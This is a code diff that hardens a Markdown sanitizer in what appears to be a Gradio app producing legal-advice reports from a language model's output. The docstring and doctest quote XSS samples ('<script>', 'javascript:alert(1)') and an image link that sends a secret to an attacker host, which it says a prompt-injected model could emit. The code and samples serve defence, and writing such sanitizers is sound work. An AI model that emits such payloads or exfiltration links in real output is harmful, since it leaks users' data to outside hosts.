@@ -120,7 +120,7 @@ class Report(BaseModel):
     analysis: str  # 法律分析
     advice: list[str]  # 法律建议, one item each
     risks: list[str]  # 风险提示, one item each
-    generated_by: str  # the model's describe(), or "no model" for a partial report
+    generated_by: str  # the model's describe() (never a server URL), or "no model" for a partial report
     notice: str = ""  # why the report is partial (no model, or the model's error); empty otherwise
 
     @property
@@ -310,23 +310,31 @@ def _clip_end(text: str, limit: int) -> str:
 
 _LEADING_HASH = re.compile(r"^(\s*)#", re.M)
 _UNSAFE_SCHEME = re.compile(r"(javascript|vbscript|data)\s*:", re.I)
+_BACKTICK_RUN = re.compile(r"`{3,}")
 
 
 def md_text(text: str) -> str:
-    """Text made safe to embed in Markdown that a browser will render.
+    """Text made safe to embed in Markdown that a browser will render: nothing in it runs or fetches.
 
     ``&``, ``<`` and ``>`` become HTML entities, so no tag in a model's (or client's) text can become live
     HTML (``<script>``, ``<img onerror=…>``) whatever the Markdown renderer's HTML policy is; they still
     display as the characters they were. A ``javascript:``/``vbscript:``/``data:`` scheme gets a full-width
     colon, so a Markdown link cannot carry one (an entity would not do: CommonMark decodes entities in
-    link destinations). A ``#`` that starts a line is escaped so that text cannot add headings to the
-    report's nine. Nothing else is escaped: emphasis and lists in the text render as written.
+    link destinations). ``![`` becomes ``!\\[``, so no image (inline ``![a](url)`` or reference-style
+    ``![a][r]``) is rendered: the browser would fetch it, e.g. ``![x](https://attacker/?q=secret)`` written by
+    a prompt-injected model. Runs of three or more backticks are escaped, so no fenced block can open: Gradio
+    draws a ```` ```mermaid ```` block as a Mermaid diagram, whose labels may hold live ``<img>`` tags (the
+    diagram reads the decoded text). A ``#`` that starts a line is escaped so that text cannot add headings
+    to the report's nine. Nothing else is escaped: emphasis, lists and links in the text render as written
+    (a link is fetched only when the visitor clicks it).
 
-    >>> md_text("<b>注意</b> & [x](javascript:alert(1))")
-    '&lt;b&gt;注意&lt;/b&gt; &amp; [x](javascript：alert(1))'
+    >>> md_text("<b>注意</b> & [x](javascript:alert(1)) ![y](https://a.example/?q=1)")
+    '&lt;b&gt;注意&lt;/b&gt; &amp; [x](javascript：alert(1)) !\\\\[y](https://a.example/?q=1)'
     """
     text = html.escape(text, quote=False)
     text = _UNSAFE_SCHEME.sub(lambda m: m.group(1) + "：", text)
+    text = text.replace("![", "!\\[")
+    text = _BACKTICK_RUN.sub(lambda m: "\\`" * len(m.group()), text)
     return _LEADING_HASH.sub(r"\1\\#", text)
 
 
